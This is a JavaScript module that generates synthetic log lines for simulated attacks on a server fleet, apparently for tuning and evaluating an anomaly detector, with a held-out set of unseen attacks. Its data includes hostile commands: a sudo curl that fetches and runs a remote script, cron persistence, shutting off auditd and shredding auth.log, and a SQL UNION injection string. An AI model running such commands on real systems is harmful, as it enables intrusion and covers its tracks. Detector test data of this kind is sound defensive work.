// Attacks for the fleet of fleet.mjs: those that features and limits were chosen with, and those that were written when all was
// chosen.
import {
  accepted,
  cron,
  DAY_MINUTES,
  failed,
  get,
  program,
  query,
  sshd,
  sudo,
  traffic,
  workstation,
} from './fleet.mjs';

/** What features were chosen with. */
export const FIRST = [
  {
    name: 'fast guessing of one password',
    length: 4,
    *lines(_, { n, second }, day) {
      for (let i = 0; i < 50; i++)
        yield [outside(185, 4, day), second(), failed('bastion-01', 'root', outside(185, 4, day), n)];
    },
  },
  {
    name: 'port scan from outside',
    length: 3,
    *lines(step, { n, second }, day) {
      for (let i = 0; i < 60; i++)
        yield [
          outside(185, 9, day),
          second(),
          traffic(outside(185, 9, day), '198.51.100.7', 1 + step * 60 + i, 'deny', 0, 0, n),
        ];
    },
  },
  {
    name: 'data carried out at night',
    length: 4,
    hour: 3,
    *lines(_, { n, second }, day) {
      for (let i = 0; i < 3; i++)
        yield [
          inside(31, day),
          second(),
          traffic(inside(31, day), '185.100.87.3', 443, 'accept', 4e8 + n(1e8), 9000, n),
        ];
    },
  },
];

/** What rarity, sample and tree sizes were chosen with. */
export const SECOND = [
  {
    name: 'slow guessing, many names',
    length: 15,
    *lines(_, { n, second }, day) {
      for (let i = 0; i < 5; i++)
        yield [
          outside(80, 6, day),
          second(),
          failed('bastion-01', `invalid user ${'abcdefghij'[n(10)]}${n(500)}`, outside(80, 6, day), n),
        ];
    },
  },
  {
    name: 'one password for many hosts, from inside',
    length: 3,
    *lines(step, { n, second }, day) {
      const hosts = [
        'web-01',
        'web-02',
        'web-03',
        'app-01',
        'app-02',
        'db-01',
        'db-02',
        'mail-01',
        'files-01',
        'ldap-01',
      ];
      for (const host of hosts.slice(step * 3, step * 3 + 5))
        yield [inside(22, day), second(), failed(host, 'administrator', inside(22, day), n)];
    },
  },
  {
    name: 'search for hidden pages',
    length: 3,
    *lines(_, { n, second }, day) {
      for (let i = 0; i < 70; i++)
        yield [
          outside(103, 4, day),
          second(),
          get(
            'web-02',
            outside(103, 4, day),
            `/${n(1e9).toString(36)}/${['admin', 'backup.zip', '.git/config', 'wp-login.php'][n(4)]}`,
            404,
            153,
          ),
        ];
    },
  },
  {
    name: 'an administrator who goes everywhere at night',
    length: 4,
    hour: 2,
    *lines(step, { n, second }, day) {
      for (const host of [
        'mail-01',
        'dns-01',
        'files-01',
        'ldap-01',
        'backup-01',
        'db-02',
        'web-03',
        'build-01',
      ].slice(step * 2, step * 2 + 2)) {
        yield [inside(1, day), second(), accepted(host, 'bob', inside(1, day), n)];
      }
    },
  },
  {
    name: 'a foothold on a server',
    length: 3,
    *lines(step, { second }, day) {
      const host = ['web-02', 'app-03', 'db-01'][day % 3];
      if (step === 0) {
        yield [
          host,
          second(),
          program(
            host,
            'useradd',
            'new user: name=svc-upd, UID=1099, GID=1099, home=/home/svc-upd, shell=/bin/bash, from=/dev/pts/1',
            86,
          ),
        ];
        yield [host, second(), program(host, 'usermod', "add 'svc-upd' to group 'sudo'", 86)];
      } else if (step === 1) {
        yield [host, second(), sudo(host, 'svc-upd', '/usr/bin/curl -s http://185.100.87.3/x.sh -o /tmp/.x')];
        yield [host, second(), sudo(host, 'svc-upd', '/bin/bash /tmp/.x')];
      } else {
        yield [host, second(), cron(host, 'svc-upd', '/tmp/.x --quiet')];
        yield [host, second(), program(host, 'crontab', '(svc-upd) REPLACE (svc-upd)', 78)];
      }
    },
  },
  {
    name: 'calling home on an odd port',
    length: 8,
    *lines(_, { n }, day) {
      for (let second = 0; second < 60; second += 10)
        yield [
          inside(17, day),
          second,
          traffic(inside(17, day), '45.77.65.211', 4444, 'accept', 320, 180, n),
        ];
    },
  },
  {
    name: 'a tunnel through DNS',
    length: 6,
    *lines(_, { n, second }, day) {
      for (let i = 0; i < 50; i++)
        yield [
          inside(8, day),
          second(),
          query(
            inside(8, day),
            `${n(1e9).toString(36)}${n(1e9).toString(36)}${n(1e9).toString(36)}${n(1e9).toString(36)}.t.example`,
          ),
        ];
    },
  },
  {
    name: 'injection into a web form',
    length: 3,
    *lines(_, { n, second }, day) {
      for (let i = 0; i < 6; i++)
        yield [
          outside(91, 7, day),
          second(),
          get(
            'web-01',
            outside(91, 7, day),
            `/shop/item?id=${n(99)}%20UNION%20ALL%20SELECT%20${'NULL,'.repeat(40 + n(40))}NULL--%20-`,
            500,
            310,
          ),
        ];
    },
  },
  {
    name: 'a login from outside',
    length: 1,
    *lines(_, { n, second }, day) {
      yield [
        outside(185, 30, day),
        second(),
        sshd(
          'bastion-01',
          `Accepted password for carol from ${outside(185, 30, day)} port ${1024 + n(60000)} ssh2`,
        ),
      ];
    },
  },
  {
    name: 'a host inside that looks around',
    length: 3,
    *lines(step, { n, second }, day) {
      for (let i = 0; i < 25; i++)
        yield [
          inside(35, day),
          second(),
          traffic(inside(35, day), `10.0.0.${1 + step * 25 + i}`, 445, 'deny', 0, 0, n),
        ];
    },
  },
];

/** Written last, and nothing was changed after they were first measured: what quality is told by. */
export const UNSEEN = [
  {
    name: 'stolen passwords tried at a web shop',
    length: 5,
    *lines(_, { n, second }, day) {
      const ip = outside(146, 70, day);
      for (let i = 0; i < 25; i++) yield [ip, second(), get('web-03', ip, '/account/login', 401, 210 + n(9))];
    },
  },
  {
    name: 'a mail server that sends spam',
    length: 6,
    *lines(_, { n, second }) {
      for (let i = 0; i < 90; i++)
        yield [
          'mail-01',
          second(),
          program(
            'mail-01',
            'postfix/smtp',
            `${n(1e9).toString(16)}: to=<u${n(1e6)}@d${n(900)}.example>, relay=mx${n(900)}.example[93.184.${n(200)}.${n(250)}]:25, delay=1.2, status=sent (250 ok)`,
            22,
          ),
        ];
    },
  },
  {
    name: 'a miner on a server',
    length: 10,
    *lines(_, { n, second }, day) {
      const server = `10.0.0.${40 + day}`;
      yield [
        server,
        second(),
        traffic(server, '51.15.65.182', 3333, 'accept', 900 + n(200), 700 + n(200), n),
      ];
    },
  },
  {
    name: 'logging switched off',
    length: 1,
    *lines(_, { second }, day) {
      const host = ['db-02', 'files-01', 'app-01'][day % 3];
      yield [host, second(), sudo(host, ADMIN, '/usr/bin/systemctl stop auditd')];
      yield [host, second(), program(host, 'auditd', 'The audit daemon is exiting.')];
      yield [host, second(), sudo(host, ADMIN, '/usr/bin/shred -u /var/log/auth.log')];
    },
  },
  {
    name: 'a port scan that takes its time',
    length: 15,
    *lines(step, { n, second }, day) {
      const ip = outside(89, 248, day);
      for (let i = 0; i < 4; i++)
        yield [ip, second(), traffic(ip, '198.51.100.9', 2000 + 37 * (4 * step + i), 'deny', 0, 0, n)];
    },
  },
  {
    name: 'a file server emptied',
    length: 5,
    *lines(_, { n, second }, day) {
      for (let i = 0; i < 4; i++)
        yield [
          inside(12, day),
          second(),
          traffic(inside(12, day), '10.0.0.12', 445, 'accept', 4e6 + n(1e6), 7e8 + n(1e8), n),
        ];
    },
  },
  {
    name: 'a service that crashes under an exploit',
    length: 2,
    *lines(_, { n, second }, day) {
      const host = ['app-02', 'web-01', 'ldap-01'][day % 3];
      for (let i = 0; i < 12; i++)
        yield [
          host,
          second(),
          program(
            host,
            'kernel',
            `slapd[${n(32768)}]: segfault at ${n(1e9).toString(16)} ip 00007f${n(1e9).toString(16)} sp 00007ffd error 4 in libc.so.6`,
            6,
          ),
        ];
    },
  },
  {
    name: 'a service account used by a person',
    length: 2,
    *lines(step, { n, second }, day) {
      for (const host of ['ldap-01', 'db-01', 'backup-01'].slice(step, step + 2))
        yield [inside(26, day), second(), accepted(host, 'deploy', inside(26, day), n)];
    },
  },
  {
    name: 'guessing root on the machine itself',
    length: 3,
    *lines(_, { second }, day) {
      const host = ['web-03', 'build-01', 'app-04'][day % 3];
      for (let i = 0; i < 12; i++)
        yield [host, second(), program(host, 'su', 'FAILED SU (to root) www-data on pts/3', 86)];
    },
  },
  {
    name: 'calling home through names, seldom',
    length: 12,
    *lines(_, { n, second }, day) {
      for (let i = 0; i < 2; i++)
        yield [
          inside(4, day),
          second(),
          query(
            inside(4, day),
            `${n(1e9).toString(36)}${n(1e9).toString(36)}${n(1e9).toString(36)}.c2.example`,
          ),
        ];
    },
  },
];

const ADMIN = 'mallory';

/** Who it is differs from day to day. */
const inside = (i, day) => workstation((i + 7 * day) % 40);
const outside = (first, last, day) => `${first}.${100 + day}.${17 * day}.${last}`;

/** Each attack once a day from day `from` on, at hours that differ from day to day. */
export function schedule(attacks, from, days) {
  return attacks.flatMap((attack, k) =>
    Array.from({ length: days - from }, (_, d) => {
      const hour = attack.hour ?? 8 + ((k * 5 + d * 7) % 14);
      return {
        ...attack,
        lines: (step, tools) => attack.lines(step, tools, from + d),
        at: (from + d) * DAY_MINUTES + hour * 60 + ((k * 17 + d * 13) % 55),
      };
    }),
  );
}
